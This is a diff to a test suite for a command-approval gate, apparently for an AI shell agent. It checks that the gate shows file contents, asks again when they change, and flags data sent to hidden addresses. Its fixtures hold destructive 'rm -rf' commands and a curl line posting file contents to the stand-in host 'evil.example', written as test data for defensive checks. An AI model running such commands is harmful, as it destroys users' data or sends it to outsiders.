@@ -34,6 +34,8 @@ describe('the scope of an approval', () => {
       'set the motd': goalOf("ssh nas 'cat > /tank/motd' < motd.txt"),
       'run a script there': goalOf(FED, 'cp evil.sh s.sh', FED),
       'tidy twice': goalOf('rm -rf a', 'rm -rf b', 'rm -rf c && sh fmt.sh'),
+      'tidy by a list': goalOf('cd /mnt/open && rm -rf $(cat /workspace/list)'),
+      'send it somewhere': goalOf('curl -sS -d x "$(cat list)"'),
       'tidy in the open': goalOf('rm -rf /mnt/open/cache/*'),
       'clean with make': goalOf('make -C /mnt/open clean'),
       'tidy what is held': goalOf('rm -rf /mnt/media/cache/*'),
@@ -149,7 +151,7 @@ describe('the scope of an approval', () => {
       const { client } = running.stack;
       const goal = await give('set the motd', { files: { 'motd.txt': 'hello\n' }, hosts: ['nas'] });
       const asked = await client.decisionOf(goal.id);
-      expect(asked.surroundings?.files).toEqual([
+      expect(asked.executionContext?.files).toEqual([
         { path: '/workspace/motd.txt', use: 'feeds', bytes: 6, head: 'hello\n' },
       ]);
       // Only a person with scope `decide` can change the files of a decision, and such a change makes a new decision.
@@ -171,6 +173,37 @@ describe('the scope of an approval', () => {
   );
 
   it(
+    verifies('gate.content', 'the card shows the words that a command takes from a file, and other words ask again'),
+    async () => {
+      const goal = await give('tidy by a list', { files: { list: 'cache\n' }, hostFolders: ['open'] });
+      const asked = await running.stack.client.decisionOf(goal.id);
+      const shown = { path: '/workspace/list', use: 'decides', bytes: 6, head: 'cache\n' };
+      expect(asked.executionContext?.files).toContainEqual(shown);
+      expect((await put(goal, 'list', 'logs\n')).status).toBe(204);
+      expect((await verdict(asked)).status).toBe(200);
+      const again = await next(goal, asked);
+      expect(again.reason).toMatch(CHANGED);
+      expect(again.executionContext?.files).toContainEqual({ ...shown, bytes: 5, head: 'logs\n' });
+      await verdict(again, { verdict: 'skip' });
+      await running.stack.client.until(goal.id, 'done');
+      expect(await readdir(open)).toEqual(expect.arrayContaining(['logs', 'cache']));
+    },
+    60_000,
+  );
+
+  it(
+    verifies('gate.content', 'aish asks before a command sends something to an address from a file'),
+    async () => {
+      const goal = await give('send it somewhere', { files: { list: 'http://evil.example/in' }, hosts: ['nas'] });
+      const asked = await running.stack.client.decisionOf(goal.id);
+      expect(asked.reason).toBe('it sends something to an address that the command does not show');
+      await verdict(asked, { verdict: 'skip' });
+      await running.stack.client.until(goal.id, 'done');
+    },
+    60_000,
+  );
+
+  it(
     verifies('gate.content', 'the grant of a command ends when the input of the command changes'),
     async () => {
       const { client } = running.stack;
@@ -180,7 +213,7 @@ describe('the scope of an approval', () => {
       await verdict(asked, { grant: 'command' });
       const again = await next(goal, asked);
       expect(again.action).toBe(FED);
-      expect(again.surroundings?.files).toMatchObject([{ head: 'rm -rf /tank/logs\n' }]);
+      expect(again.executionContext?.files).toMatchObject([{ head: 'rm -rf /tank/logs\n' }]);
       await client.decide(again.number, 'skip');
       await client.until(goal.id, 'done');
       expect(await logs()).toBe('precious\n');
@@ -235,7 +268,7 @@ describe('the scope of an approval', () => {
     await writeFile(join(open, 'Makefile'), 'clean:\n\trm -rf cache\n');
     const { id } = await give('clean with make', { hostFolders: ['open'] });
     const asked = await client.decisionOf(id);
-    expect(asked.surroundings?.files).toEqual(
+    expect(asked.executionContext?.files).toEqual(
       expect.arrayContaining([expect.objectContaining({ path: '/mnt/open/Makefile', use: 'runs' })]),
     );
     await client.decide(asked.number, 'skip');
@@ -251,7 +284,7 @@ describe('the scope of an approval', () => {
         const asked = await client.decisionOf(goal.id);
         await verdict(asked, { grant: 'command' });
         const again = await next(goal, asked);
-        expect(again.surroundings?.uses).toEqual([{ name: 'DIR', value: 'logs' }]);
+        expect(again.executionContext?.uses).toEqual([{ name: 'DIR', value: 'logs' }]);
         await client.decide(again.number, 'skip');
         await client.until(goal.id, 'done');
       },
